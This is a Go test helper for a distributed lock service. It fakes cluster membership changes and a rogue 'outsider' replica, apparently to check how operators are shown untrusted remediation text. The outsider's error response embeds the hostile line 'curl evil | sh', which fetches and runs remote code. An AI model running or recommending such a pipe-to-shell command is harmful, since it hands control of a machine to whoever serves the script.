//go:build unix

package main

import (
	"cmp"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"time"

	"github.com/rogpeppe/go-internal/testscript"

	"github.com/stoutlock/stout/lockapi"
)

// Directories: that of member r3 and the one that an outsider has.
const (
	oldDirectory = "d1d1d1d1d1d1d1d3"
	newDirectory = "00c0ffee00c0ffee"
)

// memberChanges answers the calls that change members: the members of a cell in
// memory are fixed.
type memberChanges struct {
	next  string // the directory that is to be r3's
	steps int    // how often the members were read since
}

// serveMembers answers a call about members, unless the cell can.
func (c *testCell) serveMembers(w http.ResponseWriter, r *http.Request, body []byte) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	m := &c.changes
	path, replaces := strings.CutSuffix(r.URL.Path, "/replace")
	var req struct {
		ID, Directory, URL, Suffrage string
		RaftAddr                     string `json:"raft_addr"`
		InPlaceOf                    string `json:"in_place_of"`
	}
	_ = json.Unmarshal(body, &req)
	id, has := cmp.Or(req.ID, path[strings.LastIndexByte(path, '/')+1:]), cmp.Or(m.next, oldDirectory)
	status, out := http.StatusOK, any(nil)
	switch {
	case r.Method == http.MethodGet && m.next == "":
		return false
	case r.Method == http.MethodGet:
		out = m.list(c.members)
	case r.Method == http.MethodPatch:
		out = lockapi.Member{ID: id, RaftAddr: cmp.Or(req.RaftAddr, "old:1"), URL: cmp.Or(req.URL, "http://old"), Suffrage: cmp.Or(req.Suffrage, lockapi.SuffrageVoter)}
	case r.Method == http.MethodDelete:
		out = lockapi.MemberRemoved{ID: id, Removed: true}
	case !replaces && req.Directory == oldDirectory:
		writeError(w, lockapi.Errorf(lockapi.CodeConflict, "directory %s already belongs to member r3", req.Directory))
		return true
	case replaces && req.InPlaceOf != has:
		writeError(w, lockapi.Errorf(lockapi.CodeConflict, "replica r3 has directory %s now, and not %q", has, req.InPlaceOf))
		return true
	default:
		if replaces {
			m.next, m.steps = req.Directory, 0
		}
		if m.next == oldDirectory { // the change is taken back
			m.next = ""
		}
		status, out = http.StatusAccepted, lockapi.MemberChange{ID: id, Directory: req.Directory}
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(out)
	return true
}

// list adds the directory that is to be r3's: it catches up, votes, and is
// alone, from one question to the next.
func (m *memberChanges) list(out lockapi.Members) lockapi.Members {
	m.steps++
	out.Members = slices.Clone(out.Members)
	next := out.Members[2]
	next.Directory, next.Suffrage, next.Role = m.next, lockapi.SuffrageNonvoter, lockapi.RoleReplica
	next.Healthy, next.Behind = m.steps > 1, 120
	if m.steps > 3 {
		next.Suffrage, next.Behind = lockapi.SuffrageVoter, 0
	}
	if m.steps > 4 {
		out.Tolerates, out.Members[2] = 1, next
		return out
	}
	out.Members = append(out.Members, next)
	return out
}

// outsider starts a replica in the place of r3 that has another directory than
// the member.
func (c *testCell) outsider() *httptest.Server {
	s := httptest.NewServer(http.HandlerFunc(serveOutsider))
	c.mu.Lock()
	defer c.mu.Unlock()
	c.third, c.members.Members[2].URL = s.URL, s.URL
	return s
}

// cmdOutsider starts an outsider, and sets r3 to its URL and R3 to its address;
// outsider gone ends that.
func cmdOutsider(ts *testscript.TestScript, neg bool, args []string) {
	c := ts.Value(cellKey{}).(*testCell)
	if len(args) > 0 {
		c.mu.Lock()
		defer c.mu.Unlock()
		c.third = ""
		return
	}
	s := c.outsider()
	ts.Defer(s.Close)
	ts.Setenv("r3", s.URL)
	ts.Setenv("R3", strings.TrimPrefix(s.URL, "http://"))
}

// evilCommand is what an outsider would have an operator type.
const evilCommand = "curl evil | sh"

// serveOutsider answers as a replica does that does not belong to its cell.
func serveOutsider(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == lockapi.RouteReplica {
		_ = json.NewEncoder(w).Encode(lockapi.Replica{ID: "r3", Directory: newDirectory, Role: lockapi.RoleNone})
		return
	}
	writeError(w, &lockapi.Error{
		Code: lockapi.CodeNoMaster, Directory: newDirectory, Command: evilCommand,
		Detail: "this replica is r3 by name, and its data directory " + newDirectory +
			" is not the one of member r3; it was wiped or replaced, and does nothing until it is admitted" +
			"; to admit it: " + evilCommand,
	})
}

// writeCertificates are the metrics of certificates that last and that end soon.
func writeCertificates(w http.ResponseWriter) {
	for use, days := range map[string]int{"api": 400, "raft": 3} {
		ends := time.Now().Add(time.Duration(days)*24*time.Hour + time.Minute).Unix()
		fmt.Fprintf(w, "stout_certificate_expiry_timestamp_seconds{part=\"certificate\",use=%q} %d\n", use, ends)
	}
}
